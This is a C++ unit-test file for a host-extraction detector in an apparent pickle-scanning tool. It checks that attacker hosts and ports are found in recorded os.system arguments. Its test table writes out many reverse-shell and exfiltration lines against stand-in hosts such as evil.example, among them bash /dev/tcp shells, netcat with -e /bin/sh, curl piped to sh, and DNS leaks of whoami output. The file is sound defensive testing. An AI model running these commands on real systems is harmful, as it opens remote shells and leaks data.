#include "sensor/detect/named_hosts.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <string>
#include <vector>

namespace pickletap {
namespace {

using ::testing::ElementsAreArray;
using Texts = std::vector<std::string>;

Texts named_in(const std::string& args) {
  PickleReport report;
  report.calls.push_back({"posix.system", args, "REDUCE", 0});
  Texts texts;
  for (const NamedHost& host : named_hosts(report).hosts) texts.push_back(host.text());
  return texts;
}

TEST(NamedHosts, AreFoundInWhatAttackersWrite) {
  const struct {
    const char* args;
    Texts want;
  } table[] = {
      {"('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',)", {"10.0.0.1:4444"}},
      {"('exec 5<>/dev/udp/evil/53;id>&5',)", {"evil:53"}},
      {"('nc 10.0.0.1 4444 -e /bin/sh',)", {"10.0.0.1:4444"}},
      {"('nc -nv 10.0.0.1 4444 2>&1',)", {"10.0.0.1:4444"}},
      {"(['nc', '10.0.0.1', '4444'],)", {"10.0.0.1:4444"}},
      {"('rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc evil.example 9001 >/tmp/f',)", {"evil.example:9001"}},
      {"('curl http://host.example:8080/x|sh',)", {"host.example:8080"}},
      {"('curl http://attacker/x',)", {"attacker:80"}},
      {"('wget -qO- https://u:p@cdn.example/a.sh',)", {"cdn.example:443"}},
      {"('curl 10.0.0.1/x 2>/dev/null',)", {"10.0.0.1"}},
      {"('curl http://[2001:db8::1]:81/x',)", {"[2001:db8::1]:81"}},
      {"('curl http://167772161:81/x http://0x0a000002/',)", {"10.0.0.1:81", "10.0.0.2:80"}},
      {"('ping -c 1 10.0.0.1',)", {"10.0.0.1"}},
      {"('ping -c 1 `whoami`.evil.example',)", {"evil.example"}},
      {"('nslookup $(id -u).evil.example',)", {"evil.example"}},
      {"('nslookup $USER.evil.example',)", {"evil.example"}},
      {"('dig @10.0.0.1 -p 53 x.evil.example',)", {"10.0.0.1", "x.evil.example"}},
      {"('socat TCP:10.0.0.1:4444 EXEC:sh',)", {"10.0.0.1:4444"}},
      {"('ssh -R 9:localhost:22 root@evil.example',)", {"evil.example"}},
      {"(('10.0.0.1', 4444),)", {"10.0.0.1:4444"}},
      {"(('attacker', 4444),)", {"attacker:4444"}},
      {"(('::1', 4444), ('2001:db8::2', 443))", {"[::1]:4444", "[2001:db8::2]:443"}},
      {"(('::ffff:10.0.0.1', 4444),)", {"10.0.0.1:4444"}},
      {"('import socket;s=socket.socket();s.connect((\"10.0.0.1\",4444))',)", {"10.0.0.1:4444"}},
      {"(\"import socket\\ns = socket.socket()\\ns.connect(('10.0.0.1', 4444))\",)", {"10.0.0.1:4444"}},
      {"('python3 -c \\'import socket;s.connect((\\\\\"evil.example\\\\\",4444))\\'',)", {"evil.example:4444"}},
      {"('gethostbyname(\"%s.evil.example\" % x)',)", {"evil.example"}},
      {"('touch /tmp/x && sleep 5; echo 1.2.3 2024-01-02 12:30:45',)", {}},
      {"('nc -l -p 4444 -e /bin/sh',)", {}},
      {"(('0.0.0.0', 4444), 'http://127.0.0.1')", {"127.0.0.1:80"}},
      {"('ls 127.0.0.1 ::',)", {}},
      {"('curl http://\x03\x04u/x',)", {}},
      {"('a.b(c.d=1); /usr/lib/x.example/',)", {}},
  };
  for (const auto& row : table) EXPECT_THAT(named_in(row.args), ElementsAreArray(row.want)) << row.args;
}

TEST(NamedHosts, AreFoundInCommandsUrlsAndTheProgram) {
  PickleReport report;
  report.indicators.commands = {"nc 10.0.0.1 1"};
  report.indicators.urls = {"http://10.0.0.2/"};
  report.program = "# in a pickle within\nposix.system('nc 10.0.0.3 3')\n";
  report.findings.push_back({});
  report.findings.back().host = "10.0.0.4";
  Texts texts;
  for (const NamedHost& host : named_hosts(report).hosts) texts.push_back(host.text());
  EXPECT_THAT(texts, ElementsAreArray({"10.0.0.1:1", "10.0.0.2:80", "10.0.0.4", "10.0.0.3:3"}));
}

TEST(NamedHosts, AreBoundedAndSayWhenThereWereMore) {
  std::string many, names;
  for (int i = 1; i < 60; ++i) many += "10.0.0." + std::to_string(i) + "/ ";
  for (int i = 1; i < 60; ++i) names += "n" + std::to_string(i) + ".example/ ";
  PickleReport report;
  report.calls.push_back({"posix.system", many + names, "REDUCE", 0});
  NamedHosts found = named_hosts(report);
  EXPECT_EQ(found.hosts.size(), NamedHosts::kMaxSure + NamedHosts::kMaxNames);
  EXPECT_TRUE(found.more);
  // What comes beyond the text that is read is not, and that is said.
  report.calls.assign(1, {"posix.system", std::string(NamedHosts::kMaxText, ' ') + "10.0.0.1/", "REDUCE", 0});
  found = named_hosts(report);
  EXPECT_TRUE(found.hosts.empty());
  EXPECT_TRUE(found.more);
}

TEST(NamedHosts, TakeTimeInProportionToTheText) {
  // Each would be quadratic for a scanner that looks far ahead or begins anew: they only have to end.
  for (const std::string& unit : {std::string("["), std::string("a:"), std::string("1."), std::string("\\"),
                                  std::string("http://"), std::string("a.b,"), std::string("/dev/tcp/")}) {
    std::string text;
    while (text.size() < NamedHosts::kMaxText) text += unit;
    PickleReport report;
    report.calls.push_back({"posix.system", text, "REDUCE", 0});
    EXPECT_LE(named_hosts(report).hosts.size(), NamedHosts::kMaxSure + NamedHosts::kMaxNames);
  }
}

}  // namespace
}  // namespace pickletap
